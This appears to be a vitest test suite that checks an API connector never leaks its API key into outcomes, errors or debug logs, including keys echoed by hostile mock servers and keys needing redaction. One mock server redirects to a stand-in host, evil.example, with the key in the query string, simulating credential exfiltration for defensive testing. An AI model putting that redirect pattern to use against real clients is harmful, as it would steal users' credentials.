/** The API key is sent in a request header and appears nowhere else, even if a server echoes it. */
import { inspect } from "node:util";
import type { Connection } from "@prismatic-io/spectral";
import { describe, expect, test } from "vitest";
import { contextFor, type Step, steps } from "./support/allSteps";
import { expectNone } from "./support/checks";
import { apiKey, connectionTo, gatewayTo, Logs, run } from "./support/component";
import { workingInputs } from "./support/inputs";
import { eventStream, type Received, type Reply, startServer, textEvents } from "./support/server";

/** Inputs that make a step do more: look up the model, retry, send a body. */
const extraInputs: Record<string, Record<string, unknown>> = {
  chat: { temperature: "0.5", requestOptions: { maxRetries: "1" } },
  rawRequest: { method: "POST", data: "{}", maxRetries: "1" },
  listBatches: { fetchAll: true },
  listFiles: { fetchAll: true },
  listModels: { fetchAll: true },
};

const inputsFor = ({ key, inputs }: Step, connection: Connection) => ({
  ...workingInputs(key, inputs, connection),
  ...(inputs.some(({ key }) => key === "requestOptions")
    ? { requestOptions: { maxRetries: "0" } }
    : {}),
  ...extraInputs[key],
});

const json = { "content-type": "application/json", "retry-after-ms": "1" };

/** Servers by what they do with the request headers. Echoing them is what a gateway's debug mode does. */
const servers: Record<string, (request: Received) => Reply> = {
  "sends a valid response": () => ({
    body: { data: [], has_more: false, content: [], input_tokens: 1 },
  }),
  "echoes the headers in the response": ({ headers }) => ({
    headers: json,
    body: {
      content: [{ type: "text", text: JSON.stringify(headers) }],
      data: [{ id: headers["x-api-key"] }],
      headers,
    },
  }),
  "echoes the headers in a stream": ({ headers }) => ({
    headers: { "content-type": "text/event-stream" },
    body: eventStream(textEvents("Hi.", { model: String(headers["x-api-key"]) as never })),
  }),
  ...Object.fromEntries(
    [400, 401, 403, 404, 429, 500, 529].map((status) => [
      `echoes the headers in a ${status}`,
      ({ headers }: Received) => ({
        status,
        headers: json,
        body: { type: "error", error: { type: "x", message: `Got ${JSON.stringify(headers)}` } },
      }),
    ]),
  ),
  "echoes the headers in HTML": ({ headers }) => ({
    status: 502,
    body: `<html>${JSON.stringify(headers)}`,
  }),
  "echoes the headers in a response that is not JSON": ({ headers }) => ({
    body: `Got ${headers["x-api-key"]}`,
  }),
  "puts the API key into a redirect": ({ headers }) => ({
    status: 302,
    headers: { location: `https://evil.example/?key=${headers["x-api-key"]}` },
  }),
  "puts the API key into response headers": ({ headers }) => ({
    status: 400,
    headers: { "request-id": String(headers["x-api-key"]), "x-echo": String(headers["x-api-key"]) },
  }),
  "closes the connection": () => (_, response) => response.destroy(),
};

/** Everything that a value shows: its properties, hidden ones included, its stack and its JSON. */
const everything = (value: unknown): string =>
  [
    inspect(value, { depth: 20, showHidden: true, getters: true, maxStringLength: null }),
    JSON.stringify(value),
    value instanceof Error ? `${value.stack} ${value.message} ${String(value.cause)}` : "",
  ].join("\n");

const extraSecret = "pk-secret-0123456789";

const connections = {
  anthropic: { connect: connectionTo, secrets: [apiKey] },
  gateway: {
    connect: (url: string) =>
      gatewayTo(url, {
        authentication: "x-api-key",
        headers: `x-portkey-api-key: ${extraSecret}\nx-portkey-provider: anthropic`,
      }),
    secrets: [apiKey, extraSecret],
  },
};

/** Runs a step with debug logging, and lists each secret in the outcome or the log. */
const leaksOf = async (
  step: Step,
  url: string,
  inputs: Record<string, unknown>,
  secrets: readonly string[],
) => {
  const logs = new Logs();
  // Without Max Retries, a step has no time left to retry.
  const leftMs = "requestOptions" in inputs || "maxRetries" in inputs ? 60_000 : 350;
  const context = { ...contextFor({ url }, leftMs), logger: logs.logger, globalDebug: true };
  const outcome = await step.perform(inputs, context as object).catch((error: unknown) => error);
  const places = { outcome: everything(outcome), log: logs.lines.join("\n") };
  const leaks = Object.entries(places).flatMap(([place, text]) =>
    secrets.filter((secret) => text.includes(secret)).map((secret) => `${secret} in the ${place}`),
  );
  return { leaks, logs, outcome };
};

const startEcho = (reply: (request: Received) => Reply) =>
  startServer((request, response) => {
    const sent = reply(request);
    if (typeof sent === "function") return sent(request, response);
    response.writeHead(sent.status ?? 200, { ...json, ...sent.headers });
    response.end(typeof sent.body === "string" ? sent.body : JSON.stringify(sent.body ?? {}));
  });

const unreachable = "http://127.0.0.1:1";

const toApi = ({ path }: Received) => path.startsWith("/v1/");

describe("no secret leaks", () => {
  test.each(steps.filter(({ calls }) => calls).map((step) => [step.label, step] as const))(
    "%s",
    async (_, step) => {
      const found: string[] = [];
      for (const [via, { connect, secrets }] of Object.entries(connections)) {
        const note = (condition: string, leaks: readonly string[]) =>
          void found.push(...leaks.map((leak) => `${via} connection, ${condition}: ${leak}`));

        for (const [behavior, reply] of Object.entries(servers)) {
          const server = await startEcho(reply);
          const inputs = inputsFor(step, connect(server.url));
          const { leaks, logs } = await leaksOf(step, server.url, inputs, secrets);
          note(`a server that ${behavior}`, leaks);
          expect(server.requests.find(toApi)?.headers["x-api-key"], behavior).toBe(apiKey);
          expect(logs.lines.length, behavior).toBeGreaterThan(0);
        }

        const inputs = inputsFor(step, connect(unreachable));
        const unreached = await leaksOf(step, unreachable, inputs, secrets);
        expect(unreached.outcome).toBeInstanceOf(Error);
        note("no server", unreached.leaks);

        const connection = connect("not a url");
        const unusable = await leaksOf(step, unreachable, { ...inputs, connection }, secrets);
        expect(unusable.outcome).toBeInstanceOf(Error);
        note("an invalid Base URL", unusable.leaks);
      }
      expectNone(found);
    },
  );
});

describe("redaction of API keys", () => {
  const hello = { initialMessage: "Hello", requestOptions: { maxRetries: "1" } };

  const call = async (reply: Reply, action: string, input: object, fields: object = {}) => {
    const server = await startServer(reply);
    const connection = connectionTo(server.url, fields as Record<string, unknown>);
    return run(action, server, { ...input, connection }).catch((error: unknown) => error);
  };

  test("a key split over two chunks of a stream", async () => {
    const [start, block, , ...rest] = textEvents("");
    const deltas = [apiKey.slice(0, 9), apiKey.slice(9)].map((text) => ({
      type: "content_block_delta",
      index: 0,
      delta: { type: "text_delta", text },
    }));
    const body = eventStream(
      [start, block, ...deltas, ...rest].filter((event) => event !== undefined),
    );
    const result = (await call(
      { headers: { "content-type": "text/event-stream" }, body },
      "chat",
      hello,
    )) as { text: string };
    expect(result.text).toBe("[redacted]");
    expect(everything(result)).not.toContain(apiKey);
  });

  test("a key with JSON escapes, in a response, a field name and an error", async () => {
    const escaped = apiKey.replaceAll("-", "\\u002d");
    const get = { method: "GET" };
    const body = `{"error": {"message": "${escaped}", "type": "${escaped}"}, "${escaped}": ["${escaped}"]}`;
    expect(everything(await call({ body, headers: json }, "rawRequest", get))).not.toContain(
      apiKey,
    );
    expect(everything(await call({ status: 400, body }, "rawRequest", get))).not.toContain(apiKey);
    const slashed = { apiKey: "gw/secret/key" };
    const echo = { body: '{"echo": "gw\\/secret\\/key"}', headers: json };
    expect(everything(await call(echo, "rawRequest", get, slashed))).not.toContain(slashed.apiKey);
  });

  test("a key in a binary response, which keeps its length", async () => {
    const file = Buffer.concat([Buffer.of(0, 255), Buffer.from(apiKey), Buffer.of(255)]);
    const result = (await call({ body: file }, "rawRequest", {
      method: "GET",
      responseType: "binary",
    })) as Buffer;
    expect(result.includes(apiKey)).toBe(false);
    expect([result.length, result[0], result.at(-1)]).toEqual([file.length, 0, 255]);
  });

  test("a key as short as a word is kept, so that texts stay intact", async () => {
    const streamedText = {
      headers: { "content-type": "text/event-stream" },
      body: eventStream(textEvents("This is a test of text.")),
    };
    const result = (await call(streamedText, "chat", hello, { apiKey: "test" })) as {
      text: string;
    };
    expect(result.text).toBe("This is a test of text.");
  });
});
